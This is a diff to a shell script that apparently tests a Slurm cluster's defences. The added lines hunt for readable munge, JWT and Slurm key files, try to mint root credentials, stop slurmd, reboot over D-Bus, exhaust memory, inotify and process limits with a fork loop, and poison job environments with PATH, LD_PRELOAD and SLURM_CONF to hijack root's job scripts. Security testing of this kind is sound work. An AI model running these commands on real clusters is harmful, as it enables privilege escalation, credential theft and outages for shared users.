@@ -80,6 +80,24 @@ try sbatch --uid=0 --wrap true
 try sbatch --reboot --wrap true
 try srun --overlap --bcast=/opt/podwright/attack true
 
+# Slurm's keys, and what systemd would do for a user.
+try grep --quiet . <(find / -xdev \( -name munge.key -o -name 'jwt*.key' -o -name slurm.key \) -readable 2>/dev/null)
+try munge --no-input --uid=0
+try scontrol token username=root
+try systemd-run --quiet true
+try systemctl stop slurmd
+try busctl --quiet call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager Reboot b false
+try loginctl enable-linger
+
+# Memory that outlives programs, all the watches that a user may have, and processes until none starts.
+ipcmk --shmem 1000000 --mode 0666 >/dev/null && ipcmk --queue --semaphore 2 >/dev/null
+touch /run/lock/mine
+python3 -c 'import ctypes, time; [ctypes.CDLL(None).inotify_init() for _ in range(9999)]; time.sleep(600)' &
+python3 -c 'import os, resource, time
+resource.setrlimit(resource.RLIMIT_NPROC, (400, 400))
+while os.fork(): pass
+time.sleep(600)' 2>/dev/null
+
 # An environment for root's programs before and after a job: what they start from it writes a file.
 evil=/fsx/runs/evil
 mkdir -m 777 $evil
@@ -88,7 +106,7 @@ for name in rm timeout squeue python3 profile; do printf '#!/bin/sh\ntouch %s/by
 printf 'import os\nopen("%s/by-%%d" %% os.getuid(), "w")\n' $evil | tee $evil/sitecustomize.py >$evil/json.py
 chmod 755 $evil/*
 dangerous=PATH=$evil,PYTHONPATH=$evil,PYTHONHOME=$evil,LD_PRELOAD=$evil/x.so,ENV=$evil/profile,BASH_ENV=$evil/profile
-dangerous+=,SLURM_JOB_UID=0,SLURM_JOB_ID=../../etc,SPANK_PATH=$evil,SPANK_LD_PRELOAD=$evil/x.so
+dangerous+=,SLURM_JOB_UID=0,SLURM_JOB_ID=../../etc,SPANK_PATH=$evil,SPANK_LD_PRELOAD=$evil/x.so,SLURM_CONF=$evil/slurm.conf
 cd /tmp || exit
 sbatch --quiet --wait --nodelist="$host" --chdir=$evil --output=/dev/null --export="$dangerous" --wrap '/bin/true'
 
